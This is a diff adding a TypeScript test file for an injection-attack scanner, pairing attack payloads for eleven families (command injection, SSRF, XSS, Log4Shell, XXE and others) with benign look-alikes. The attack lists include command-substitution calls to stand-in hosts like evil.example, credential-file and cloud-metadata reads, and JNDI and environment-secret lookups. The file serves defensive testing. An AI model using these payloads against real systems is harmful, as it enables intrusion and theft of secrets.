@@ -1,0 +1,89 @@
+/**
+ * Each detector family: attacks in plain, encoded and obfuscated forms are found (through the same decoding the
+ * stage uses), benign look-alikes — the everyday text that resembles them — pass at paranoia 1.
+ */
+import { describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { createScanner, scanValue } from './detect.ts';
+import { FAMILIES, type Family, type Location } from './types.ts';
+
+const scanner = (paranoia = 1) => createScanner(new Set(FAMILIES), paranoia);
+const familyOf = (value: string, location: Location = 'body', paranoia = 1) => scanValue(scanner(paranoia), value, location, { remaining: 1e9 })?.family;
+
+const CASES: Record<Exclude<Family, 'sqli'>, { attacks: string[]; benign: string[]; location?: Location }> = {
+  nosql: {
+    attacks: ["', $where: '1 == 1'", '{"$gt": ""}', 'user[$ne]=1', 'db.users.find({})', "' && this.password.match(/.*/)//", "';sleep(5000);'", 'x;it=new Date();do{pt=new Date();}while(pt-it<5000);'],
+    benign: ['Price: $5 or less', 'Save $20 now!', 'Sleep (8 hours) is important', 'db. stands for decibel', 'it costs $ne... never mind'],
+  },
+  cmd: {
+    attacks: ['; cat /etc/hosts', "; c'a't /et\"c\"/hos'ts", '| whoami', '&& ls -la', '`id`', '$(curl http://evil.example)', ';getent${IFS}hosts x', '() { :; }; /bin/bash -c id', '<!--#exec cmd="ls" -->', '%3Bwget%20http%3A%2F%2Fx%2Fa.sh'],
+    benign: ['We have two pets; cat and dog', 'Tom & Jerry', 'R&D; sales | marketing', 'Sleep well; see you', 'The operating system(s) supported', 'Set of 6; one chipped'],
+  },
+  traversal: {
+    attacks: ['../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2fboot.ini', '%252e%252e%252f.htaccess', '%c0%ae%c0%ae/%c0%ae%c0%ae/x', '/proc/self/environ', '\\\\host\\c$\\users'],
+    benign: ['Wait... what?', 'See docs/setup.md', 'Price 1.../2 off', 'etc. and so on', 'C:\\Users\\Public\\Documents'],
+  },
+  ssrf: {
+    attacks: ['http://127.0.0.1/', 'http://2130706433/', 'http://0177.0.0.1/', 'http://0x7f000001/', 'http://127.1/', 'http://[::1]/', 'http://[::ffff:127.0.0.1]/', 'http://[::]/', 'http://169.254.169.254/latest', 'http://metadata.google.internal/', 'http://100.100.100.200/', 'http://[fd00:ec2::254]/', 'gopher://x:70/_', 'dict://x:11211/', 'file:///etc/hostname', 'jar:http://x!/', 'http://10.0.0.5:8080/admin', 'http://localtest.me/', 'http://evil@192.168.1.1/'],
+    benign: ['https://example.com/docs', 'Visit http://www.example.org/about', 'file: attached below', 'Call 10.0 or later', 'ftp://ftp.example.com/pub'],
+  },
+  xss: {
+    attacks: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '"onmouseover="alert(1)', 'javascript:alert(1)', 'java\tscript:alert(1)', 'jav&#x09;ascript:alert(1)', '&lt;iframe src=x&gt;', '%3Cscript%3E', '<a href="javascript&colon;alert(1)">x</a>', 'data:text/html,<b>x</b>', "'-alert(1)//", '(confirm)(1)', '<div style="width:expression(alert(1))">', '\\u003cscript\\u003e', '<<scr\u0000ipt>alert(1)</script>'],
+    benign: ['Use <b>bold</b> text', 'I <3 this', 'x < y and y > z', 'Set an alert (daily)', 'The ongoing project', 'Java Script tutorial', 'Press <Enter>', 'alert(s) were raised'],
+  },
+  ssti: {
+    attacks: ['{{7*7}}', '${7*7}', '#{7*7}', "{{''.__class__.__mro__}}", '<%= system("id") %>', '{% import os %}', '<#assign ex="freemarker.template.utility.Execute"?new()>', '{{config.items()}}'],
+    benign: ['Hello {{first_name}}!', 'Dear ${customer},', 'Hi {{ name }}', 'Template: #{name}', '{% if user %}hi{% endif %}'],
+  },
+  ldap: {
+    attacks: ['*)(uid=*))(|(uid=*', '*(|(objectclass=*))', '(&(uid=admin)(!(&(1=0)(userPassword=q))))', 'userPassword:2.5.13.18:=123', 'admin)(cn=*'],
+    benign: ['(see above)(and below)', 'f(x)(y)', 'Rating: 5*', 'key := value'],
+  },
+  xpath: {
+    attacks: ["' and count(/*)=1 and '1'='1", "']|//*|//*['", 'name(/*[1])', '/child::node()'],
+    benign: ['count (them) all', 'a // comment', 'http://example.com/a/b'],
+  },
+  crlf: {
+    attacks: ['x\r\nSet-Cookie: a=b', '%0d%0aLocation: http://evil', 'a\u560d\u560aSet-Cookie:x'],
+    benign: ['a single line', 'tab\tseparated'],
+    location: 'header',
+  },
+  log4shell: {
+    attacks: ['${jndi:ldap://x/a}', '${${lower:j}ndi:ldap://x/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}', '${${env:NOTHING:-j}ndi:dns://x}', '${env:AWS_SECRET_ACCESS_KEY}', '%24%7Bjndi%3Aldap%3A%2F%2Fx%7D'],
+    benign: ['${price}', 'It costs $5 {approx}', 'Use ${HOME} in bash'],
+  },
+  xxe: {
+    attacks: ['<!DOCTYPE x SYSTEM "http://evil/x.dtd"><x/>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE', '<xi:include href="http://evil"/>'],
+    benign: ['<!DOCTYPE html> is the HTML5 doctype', '<?xml version="1.0"?> prolog'],
+  },
+};
+
+describe('detector families', () => {
+  for (const [family, cases] of Object.entries(CASES)) {
+    test(`${family}: attacks and their encodings are found`, () => {
+      for (const attack of cases.attacks) assert.ok(familyOf(attack, cases.location ?? 'body') !== undefined, `${family} missed: ${JSON.stringify(attack)}`);
+    });
+    test(`${family}: benign look-alikes pass at paranoia 1`, () => {
+      for (const text of cases.benign) assert.equal(familyOf(text, 'body'), undefined, `${family} false positive: ${JSON.stringify(text)}`);
+    });
+  }
+
+  test('a line break is an injection in header-bound values, text in bodies', () => {
+    assert.equal(familyOf('line one\nline two', 'header'), 'crlf');
+    assert.equal(familyOf('line one\nline two', 'body'), undefined);
+    assert.equal(familyOf('Hello,\nBcc: victim@example.com', 'body'), 'crlf');
+    assert.equal(familyOf('hello\r\nRCPT TO: <x@evil.example>', 'body'), 'crlf');
+  });
+
+  test('NoSQL operator keys are found as keys, plain dollar keys are not', () => {
+    assert.equal(familyOf('$where', 'key'), 'nosql');
+    assert.equal(familyOf('$ne', 'key'), 'nosql');
+    assert.equal(familyOf('$price', 'key'), undefined);
+  });
+
+  test('higher paranoia flags more', () => {
+    assert.equal(familyOf('<img src="cat.jpg">'), undefined);
+    assert.equal(familyOf('<img src="cat.jpg">', 'body', 2), 'xss');
+    assert.equal(familyOf('Hello {{first_name}}', 'body', 3), 'ssti');
+  });
+});
